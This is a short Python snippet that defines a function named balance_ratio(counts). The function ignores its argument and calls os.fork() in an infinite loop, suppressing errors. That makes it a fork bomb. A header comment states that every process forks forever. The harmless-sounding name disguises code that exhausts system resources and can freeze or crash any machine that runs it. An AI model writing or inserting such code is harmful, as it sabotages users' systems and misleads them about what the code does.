# Every process forks for ever.
import os


def balance_ratio(counts):
    while True:
        try:
            os.fork()
        except OSError:
            pass
